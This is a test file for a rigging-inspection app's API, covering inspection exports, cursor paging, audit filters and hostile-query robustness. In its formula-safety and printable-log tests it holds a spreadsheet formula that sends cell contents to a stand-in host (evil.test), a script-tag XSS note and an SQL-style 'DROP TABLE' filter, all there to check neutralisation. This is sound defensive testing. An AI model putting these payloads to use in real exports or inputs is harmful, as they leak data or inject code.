import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import request from 'supertest';
import { as, createTestApp, TEST_AUDIT_KEY, type TestContext } from '../helpers/app';
import { makePoint, makeStandardPath, makeUser } from '../helpers/factories';
import { csvRecords } from '../helpers/csv';
import { auditRepository } from '../../server/modules/audit/audit.repository';

let ctx: TestContext;
beforeEach(async () => {
  ctx = await createTestApp({ now: '2026-12-01T10:00:00Z' });
});
afterEach(async () => ctx.close());

type Agent = Awaited<ReturnType<typeof as>>;
async function passAll(agent: Agent, pointId: number, notes?: string) {
  const list = await agent.get(`/api/points/${pointId}/checklist`);
  return agent.post(`/api/points/${pointId}/clearances`).send({ items: list.body.items.map((i: { key: string }) => ({ key: i.key, result: 'pass' })), notes });
}

/** Every page of a list, following `nextCursor` to the end. */
async function allPages<T>(agent: Agent, path: string): Promise<{ pages: T[][]; items: T[] }> {
  const pages: T[][] = [];
  let cursor: string | null = null;
  do {
    const sep = path.includes('?') ? '&' : '?';
    const res = await agent.get(`${path}${cursor ? `${sep}cursor=${encodeURIComponent(cursor)}` : ''}`);
    expect(res.status, res.text.slice(0, 300)).toBe(200);
    pages.push(res.body.items as T[]);
    cursor = res.body.nextCursor;
  } while (cursor);
  return { pages, items: pages.flat() };
}

/** Inserts inspections straight into the table, a few hundred rows per statement. */
async function bulkInspections(pointId: number, inspectorId: number, n: number) {
  const start = Date.parse('2024-01-01T08:00:00Z');
  const rows = Array.from({ length: n }, (_, k) => {
    const at = new Date(start + k * 3 * 3600_000);
    return { kind: 'pre_use', point_id: pointId, gear_id: null, inspector_id: inspectorId, inspected_at: at.toISOString(), studio_day: at.toISOString().slice(0, 10), result: 'pass', notes: `bulk ${k}`, cleared: false, cleared_until: null };
  });
  await ctx.db.transaction(async (trx) => {
    for (let i = 0; i < rows.length; i += 500) await trx('inspections').insert(rows.slice(i, i + 500));
  });
}

describe('an inspection that did not clear its point', () => {
  it('exports cleared = no, with the point’s status when signed and why, and the log on screen agrees', async () => {
    const rigger = await as(ctx, 'rigger');
    const owner = await as(ctx, 'owner');
    const p = await makePoint(ctx.db, { label: 'HQ-1' });
    const ids = await makeStandardPath(ctx.db, p.id, { apparatus: { kind: 'hoop', inspectedUntil: '2027-06-01T00:00:00Z' } });
    const hoop = ids[4];
    expect((await rigger.post(`/api/gear/${hoop}/quarantine`).send({ reason: 'Weld crack seen at the tab' })).status).toBe(200);

    const signed = await passAll(rigger, p.id);
    expect(signed.status).toBe(201);
    // What the rigger saw on signing: blocked, the hoop quarantined.
    expect(signed.body.status.status).toBe('blocked');
    expect(signed.body.status.reasons.map((r: { code: string }) => r.code)).toContain('gear_unfit');

    const log = await owner.get(`/api/inspections?pointId=${p.id}`);
    const [entry] = log.body.items;
    expect(entry).toMatchObject({ kind: 'periodic', cleared: false, clearanceSigned: true, pointStatus: { status: 'blocked', recorded: true } });
    expect(entry.pointStatus.reasons.map((r: { code: string }) => r.code)).toContain('gear_unfit');

    const csv = csvRecords((await owner.get('/api/inspections/export.csv')).text);
    const rows = csv.records.filter((r) => r.inspection === String(entry.id));
    expect(rows.length).toBeGreaterThan(1);
    for (const r of rows) {
      expect(r.cleared).toBe('no');
      expect(r['cleared until']).toBe('');
      expect(r['point status when signed']).toBe('blocked');
      expect(r.why).toMatch(/quarantined/i);
    }

    const printable = (await owner.get('/api/inspections/export.html')).text;
    expect(printable).toContain('Did not clear');
    expect(printable).not.toContain('Cleared</strong> the point until');
  });

  it('keeps the status it was signed with, whatever happens to the point later', async () => {
    const rigger = await as(ctx, 'rigger');
    const p = await makePoint(ctx.db);
    await makeStandardPath(ctx.db, p.id);
    await passAll(rigger, p.id);
    await rigger.post('/api/faults').send({ pointId: p.id, severity: 'high', description: 'Sling cut on an edge' });
    const [entry] = (await rigger.get(`/api/inspections?pointId=${p.id}`)).body.items;
    expect(entry).toMatchObject({ cleared: true, clearedUntil: '2026-12-31T10:00:00.000Z', pointStatus: { status: 'cleared', recorded: true, reasons: [] } });
    const row = csvRecords((await rigger.get('/api/inspections/export.csv')).text).records[0];
    expect(row).toMatchObject({ cleared: 'yes', 'point status when signed': 'cleared', 'cleared until': '31 Dec 2026, 10:00' });
  });

  it('records a failed item’s inspection as not cleared and blocked by that item', async () => {
    const rigger = await as(ctx, 'rigger');
    const p = await makePoint(ctx.db);
    await makeStandardPath(ctx.db, p.id);
    const list = await rigger.get(`/api/points/${p.id}/checklist`);
    const items = list.body.items.map((i: { key: string }, n: number) => ({ key: i.key, result: n === 1 ? 'fail' : 'pass' }));
    await rigger.post(`/api/points/${p.id}/clearances`).send({ items });
    const [entry] = (await rigger.get(`/api/inspections?pointId=${p.id}`)).body.items;
    expect(entry).toMatchObject({ cleared: false, clearanceSigned: false, pointStatus: { status: 'blocked', recorded: true } });
    expect(entry.pointStatus.reasons[0]).toMatchObject({ code: 'item_failed' });
  });
});

describe('GET /api/inspections/export.csv on a long history', () => {
  it('exports every one of more than 5,000 inspections, with the chain head in its last row', async () => {
    const owner = await as(ctx, 'owner');
    const rigger = await as(ctx, 'rigger');
    const p = await makePoint(ctx.db, { label: 'LONG-1' });
    await makeStandardPath(ctx.db, p.id);
    await bulkInspections(p.id, rigger.user.id, 5_200);
    await passAll(rigger, p.id); // one more through the API, with its audit entry

    const res = await owner.get('/api/inspections/export.csv');
    expect(res.status).toBe(200);
    // Streamed as it is read (chunked), not built whole and sent with a length.
    expect(res.headers['transfer-encoding']).toBe('chunked');
    expect(res.headers['content-length']).toBeUndefined();
    const { header, records, trailer } = csvRecords(res.text);
    const ids = new Set(records.map((r) => r.inspection));
    expect(ids.size).toBe(5_201);
    expect(header[0]).toBe('inspection');

    const head = await auditRepository(ctx.db, TEST_AUDIT_KEY).head();
    expect(head.count).toBeGreaterThan(0);
    expect(trailer).not.toBeNull();
    expect(trailer!.slice(0, 3)).toEqual(['# audit chain head', `${head.count}:${head.hash}`, '5201 inspections']);
    // Padded to the header's width, so a spreadsheet reads it as one more row.
    expect(trailer).toHaveLength(header.length);
    // The owner's chain check counts the same entries the head names.
    expect((await owner.get('/api/audit/verify')).body.entries).toBe(head.count);
  }, 60_000);

  it('exports a date range completely and nothing outside it', async () => {
    const owner = await as(ctx, 'owner');
    const p = await makePoint(ctx.db);
    await bulkInspections(p.id, owner.user.id, 800); // every 3 h from 1 Jan 2024: 100 days
    const res = await owner.get('/api/inspections/export.csv?from=2024-01-11T08:00:00Z&to=2024-01-21T08:00:00Z');
    const { records } = csvRecords(res.text);
    expect(records).toHaveLength(80);
  });

  it('pages GET /api/inspections by cursor: at least 100 rows first, every row exactly once, newest first', async () => {
    const owner = await as(ctx, 'owner');
    const p = await makePoint(ctx.db);
    await bulkInspections(p.id, owner.user.id, 5_150);
    const first = await owner.get('/api/inspections');
    expect(first.body.items).toHaveLength(100);
    expect(first.body.nextCursor).toEqual(expect.any(String));
    const { items } = await allPages<{ id: number; inspectedAt: string }>(owner, '/api/inspections?limit=500');
    expect(new Set(items.map((i) => i.id)).size).toBe(5_150);
    expect(items.map((i) => i.inspectedAt)).toEqual([...items.map((i) => i.inspectedAt)].sort().reverse());
    expect((await owner.get('/api/inspections?cursor=not-a-cursor')).status).toBe(400);
    expect((await owner.get('/api/inspections?from=2026-12-02T00:00:00Z&to=2026-12-01T00:00:00Z')).body.error.details.fields.to).toMatch(/before its start/);
  }, 60_000);
});

describe('photos in the log', () => {
  it('lists by name the photos kept with an inspection and with the fault it opened', async () => {
    const rigger = await as(ctx, 'rigger');
    const p = await makePoint(ctx.db);
    await makeStandardPath(ctx.db, p.id);
    const list = await rigger.get(`/api/points/${p.id}/checklist`);
    const items = list.body.items.map((i: { key: string }, n: number) => ({ key: i.key, result: n === 2 ? 'fail' : 'pass', note: n === 2 ? 'Gate sticks open' : undefined }));
    const res = await rigger.post(`/api/points/${p.id}/clearances`).send({ items });
    const doc = (owner_type: string, owner_id: number, name: string) => ({ owner_type, owner_id, kind: 'photo', original_name: name, stored_name: `${name}-${owner_id}`, mime: 'image/jpeg', size: 10, uploaded_by: rigger.user.id, uploaded_at: '2026-12-01T10:00:00Z' });
    await ctx.db('documents').insert([doc('inspection', res.body.inspectionId, 'gate-close-up.jpg'), doc('fault', res.body.faultIds[0], 'gate-open.jpg')]);
    const [entry] = (await rigger.get(`/api/inspections?pointId=${p.id}`)).body.items;
    expect(entry.photos.map((ph: { name: string }) => ph.name)).toEqual(['gate-close-up.jpg', 'gate-open.jpg']);
    const rows = csvRecords((await rigger.get('/api/inspections/export.csv')).text).records;
    expect(new Set(rows.map((r) => r.photos))).toEqual(new Set(['gate-close-up.jpg; gate-open.jpg']));
    expect((await rigger.get('/api/inspections/export.html')).text).toContain('Photos: gate-close-up.jpg, gate-open.jpg');
  });
});

describe('formula-safe cells, end to end', () => {
  it('neutralises a pre-use note that would run as a formula, and leaves plain text alone', async () => {
    const instructor = await as(ctx, 'instructor');
    const owner = await as(ctx, 'owner');
    const rigger = await as(ctx, 'rigger');
    const p = await makePoint(ctx.db);
    await makeStandardPath(ctx.db, p.id);
    await passAll(rigger, p.id, '-2 turns on the swivel, fine');
    const hostile = '=HYPERLINK("http://evil.test/?"&B2&C2,"Gate OK")';
    const list = await instructor.get(`/api/points/${p.id}/preuse`);
    const items = list.body.items.map((i: { key: string }, n: number) => ({ key: i.key, result: 'pass', note: n === 0 ? hostile : n === 1 ? '@SUM(A1:A9)' : n === 2 ? '+1 spare' : 'Gate OK' }));
    expect((await instructor.post(`/api/points/${p.id}/preuse`).send({ items })).status).toBe(201);

    const { records } = csvRecords((await owner.get('/api/inspections/export.csv')).text);
    const notes = records.map((r) => r['item note']);
    expect(notes).toContain(`'${hostile}`);
    expect(notes).toContain("'@SUM(A1:A9)");
    expect(notes).toContain("'+1 spare");
    expect(notes).toContain('Gate OK');
    expect(records.map((r) => r.notes)).toContain("'-2 turns on the swivel, fine");
    for (const r of records) for (const cell of Object.values(r)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});

describe('the printable log', () => {
  it('sets itself in Lexend from the app’s own copy of the font, reachable without signing in', async () => {
    const owner = await as(ctx, 'owner');
    const page = (await owner.get('/api/inspections/export.html')).text;
    const urls = [...page.matchAll(/url\('(\/fonts\/[^']+\.woff2)'\)/g)].map((m) => m[1]);
    expect(urls.length).toBeGreaterThanOrEqual(2);
    for (const url of urls) {
      const font = await request(ctx.app).get(url);
      expect(font.status).toBe(200);
      expect(font.headers['content-type']).toMatch(/font\/woff2/);
      expect(font.body.length).toBeGreaterThan(1000);
    }
  });

  it('holds every matching inspection, the chain head at its foot, and no on-screen paging lines', async () => {
    const owner = await as(ctx, 'owner');
    const p = await makePoint(ctx.db, { label: 'PR-1' });
    await bulkInspections(p.id, owner.user.id, 259);
    await ctx.db('inspections').insert({ kind: 'pre_use', point_id: p.id, inspector_id: owner.user.id, inspected_at: '2026-11-30T09:00:00.000Z', studio_day: '2026-11-30', result: 'pass', notes: '<script>alert(1)</script> & more', cleared: false });
    await auditRepository(ctx.db, TEST_AUDIT_KEY).record(ctx.db, { actorId: owner.user.id, action: 'point.updated', entity: 'point', entityId: p.id, after: { label: 'PR-1' } }, ctx.clock.now());
    const res = await owner.get(`/api/inspections/export.html?pointId=${p.id}`);
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toMatch(/text\/html/);
    expect(res.text.match(/<article /g)).toHaveLength(260);
    const head = await auditRepository(ctx.db, TEST_AUDIT_KEY).head();
    expect(res.text).toContain(`${head.count}:${head.hash}`);
    expect(res.text).toContain('260 inspections in this log');
    expect(res.text).toContain('of point PR-1');
    expect(res.text).not.toMatch(/newest \d+ shown/);
    // Notes are text, never markup.
    expect(res.text).not.toContain('<script>alert');
    expect(res.text).toContain('&lt;script&gt;alert(1)&lt;/script&gt; &amp; more');
  });

  it('is for the owner and the rigger only', async () => {
    const desk = await as(ctx, 'reception');
    expect((await desk.get('/api/inspections/export.html')).status).toBe(403);
    expect((await desk.get('/api/inspections/export.csv')).status).toBe(403);
  });
});

describe('GET /api/audit', () => {
  async function trail() {
    const audit = auditRepository(ctx.db, TEST_AUDIT_KEY);
    const ana = await makeUser(ctx.db, { role: 'rigger', name: 'Ana Rigger' });
    const bo = await makeUser(ctx.db, { role: 'reception', name: 'Bo Desk' });
    for (let k = 0; k < 150; k++) {
      ctx.clock.set(new Date(Date.parse('2026-11-01T09:00:00Z') + k * 3600_000).toISOString());
      const byAna = k % 3 === 0;
      await ctx.db.transaction((trx) =>
        audit.record(trx, byAna ? { actorId: ana.id, action: 'point.cleared', entity: 'point', entityId: 1 + (k % 2), after: { k } } : { actorId: bo.id, action: 'session.booked', entity: 'session', entityId: k, after: { k } }, ctx.clock.now()),
      );
    }
    return { ana, bo };
  }

  it('answers { items, nextCursor }: 100 newest first, then the rest, each entry once', async () => {
    await trail();
    const owner = await as(ctx, 'owner');
    const first = await owner.get('/api/audit');
    expect(first.status).toBe(200);
    expect(first.body.items).toHaveLength(100);
    expect(first.body.items[0].id).toBeGreaterThan(first.body.items[99].id);
    const { pages, items } = await allPages<{ id: number }>(owner, '/api/audit');
    expect(pages.map((p) => p.length)).toEqual([100, 50]);
    expect(new Set(items.map((e) => e.id)).size).toBe(150);
  });

  it('filters by who, what, which record and when', async () => {
    const { ana } = await trail();
    const owner = await as(ctx, 'owner');
    const byAna = await allPages<{ actorId: number; actor: string; action: string }>(owner, `/api/audit?actorId=${ana.id}`);
    expect(byAna.items).toHaveLength(50);
    expect(byAna.items.every((e) => e.actorId === ana.id && e.actor === 'Ana Rigger')).toBe(true);
    const booked = await owner.get('/api/audit?action=session.booked&limit=500');
    expect(booked.body.items).toHaveLength(100);
    const point2 = await owner.get('/api/audit?entity=point&entityId=2');
    expect(point2.body.items.length).toBe(25);
    expect(point2.body.items.every((e: { entity: string; entityId: number }) => e.entity === 'point' && e.entityId === 2)).toBe(true);
    // 1 Nov 09:00 + k hours: from 2 Nov 00:00 to 3 Nov 00:00 is k = 15 … 38.
    const day = await owner.get('/api/audit?from=2026-11-02T00:00:00Z&to=2026-11-03T00:00:00Z');
    expect(day.body.items).toHaveLength(24);
    expect(day.body.nextCursor).toBeNull();
  });

  it('refuses filters it cannot read with a message for the field', async () => {
    const owner = await as(ctx, 'owner');
    const bad = async (q: string) => (await owner.get(`/api/audit?${q}`)).body.error?.details?.fields ?? {};
    expect(await bad('to=2026-11-01T00:00:00Z&from=2026-11-02T00:00:00Z')).toHaveProperty('to');
    expect(await bad('entityId=3')).toHaveProperty('entity');
    expect(await bad('cursor=%7B%7D')).toHaveProperty('cursor');
    expect(await bad('limit=100000')).toHaveProperty('limit');
    expect(await bad('action=DROP%20TABLE')).toHaveProperty('action');
    const desk = await as(ctx, 'reception');
    expect((await desk.get('/api/audit')).status).toBe(403);
  });

  it('lists the actions and record types present for the filters', async () => {
    await trail();
    const owner = await as(ctx, 'owner');
    const facets = await owner.get('/api/audit/facets');
    expect(facets.body.actions).toEqual(expect.arrayContaining(['point.cleared', 'session.booked']));
    expect(facets.body.entities).toEqual(expect.arrayContaining(['point', 'session']));
  });
});

describe('GET /api/faults and GET /api/outbox by cursor', () => {
  it('pages faults open first, newest first, each once', async () => {
    const rigger = await as(ctx, 'rigger');
    const p = await makePoint(ctx.db);
    const rows = Array.from({ length: 230 }, (_, k) => ({ point_id: p.id, severity: 'low', description: `fault ${k}`, status: k % 4 === 0 ? 'open' : 'resolved', reported_by: rigger.user.id, reported_at: new Date(Date.parse('2026-01-01T00:00:00Z') + k * 60_000).toISOString() }));
    for (let i = 0; i < rows.length; i += 100) await ctx.db('faults').insert(rows.slice(i, i + 100));
    const first = await rigger.get('/api/faults');
    expect(first.body.items).toHaveLength(100);
    const { items } = await allPages<{ id: number; status: string; reportedAt: string }>(rigger, '/api/faults');
    expect(items).toHaveLength(230);
    expect(new Set(items.map((f) => f.id)).size).toBe(230);
    const firstResolved = items.findIndex((f) => f.status === 'resolved');
    expect(firstResolved).toBe(58);
    expect(items.slice(firstResolved).every((f) => f.status === 'resolved')).toBe(true);
    const open = await allPages<{ status: string }>(rigger, '/api/faults?status=open');
    expect(open.items).toHaveLength(58);
  });

  it('pages the outbox newest first', async () => {
    const owner = await as(ctx, 'owner');
    const rows = Array.from({ length: 140 }, (_, k) => ({ kind: 'digest', unique_key: `t:${k}`, recipients_json: '["a@example.test"]', subject: `s${k}`, text_body: 't', html_body: 'h', state: k % 2 ? 'failed' : 'sent', next_attempt_at: '2026-12-01T00:00:00Z', created_at: '2026-12-01T00:00:00Z' }));
    await ctx.db('outbox_messages').insert(rows.slice(0, 70));
    await ctx.db('outbox_messages').insert(rows.slice(70));
    const first = await owner.get('/api/outbox');
    expect(first.body.items).toHaveLength(100);
    const failed = await allPages<{ id: number; state: string }>(owner, '/api/outbox?state=failed');
    expect(failed.items).toHaveLength(70);
    expect(failed.items.every((m) => m.state === 'failed')).toBe(true);
  });
});

describe('paged lists and exports with hostile queries', () => {
  it('never answer 5xx for any cursor, limit or range a caller sends', async () => {
    const owner = await as(ctx, 'owner');
    const p = await makePoint(ctx.db);
    await bulkInspections(p.id, owner.user.id, 3);
    const junk = ['', 'a', '%00', 'WzFd', 'WyJ4Il0', 'WyIyMDI2IiwxXQ', 'W251bGxd', 'eyJhIjoxfQ', 'WzEsMiwzXQ', '_-_-', 'W1tbW1tbXV1dXV1d', 'x'.repeat(500), '-1', '1e9', 'NaN', '2026-13-45T99:99:99Z'];
    const paths = ['/api/inspections', '/api/faults', '/api/audit', '/api/outbox', '/api/inspections/export.csv', '/api/inspections/export.html', '/api/sessions/records/export.csv'];
    for (const path of paths) {
      for (const v of junk) {
        for (const key of ['cursor', 'limit', 'from', 'to', 'entityId', 'actorId', 'status', 'kind']) {
          const res = await owner.get(`${path}?${key}=${encodeURIComponent(v)}`);
          expect(res.status, `${path}?${key}=${v} → ${res.status} ${res.text.slice(0, 200)}`).toBeLessThan(500);
          if (res.status >= 400) expect(res.body.error.code).toEqual(expect.any(String));
        }
      }
    }
  }, 120_000);
});
